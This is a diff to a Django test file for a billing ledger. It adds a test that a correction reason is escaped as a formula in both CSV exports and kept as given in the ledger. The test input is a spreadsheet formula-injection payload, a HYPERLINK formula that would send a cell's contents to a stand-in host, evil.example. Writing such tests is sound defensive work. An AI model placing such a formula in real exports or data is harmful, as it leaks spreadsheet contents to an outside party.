@@ -10,8 +10,10 @@ from decimal import Decimal
 
 import pytest
 from django.contrib.auth.models import Permission
+from django.test import Client
 from django.utils import timezone
 
+from api.models import ApiToken
 from billing.metering import record_staging
 from billing.models import LedgerEntry
 from jobs import lifecycle
@@ -128,3 +130,16 @@ def test_only_operators_who_may_add_entries_record_corrections(ended_job, partne
     assert viewer.post(CORRECT, correction(ended_job)).status_code == 403
     assert "Record a correction" not in viewer.get("/admin/billing/ledgerentry/").content.decode()
     assert not LedgerEntry.objects.filter(kind="correction").exists()
+
+
+def test_a_reason_a_spreadsheet_would_run_is_guarded_in_both_csv_exports_and_the_credit_stays_a_number(
+    ended_job, operator, partner_client, partner
+):
+    reason = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
+    assert client_for(operator).post(CORRECT, correction(ended_job, reason=reason)).status_code == 302
+    page = list(csv.DictReader(io.StringIO(partner_client.get("/billing/ledger.csv").getvalue().decode())))
+    api = Client(HTTP_AUTHORIZATION=f"Bearer {ApiToken.objects.create(user=partner, name='sheet')[1]}")
+    exported = list(csv.DictReader(io.StringIO(api.get("/api/v1/ledger.csv").getvalue().decode())))
+    for rows in (page, exported):
+        assert (rows[0]["reason"], rows[0]["amount"]) == (f"'{reason}", "-0.5000")
+    assert LedgerEntry.objects.get(kind=LedgerEntry.Kind.CORRECTION).reason == reason, "the ledger keeps it as given"
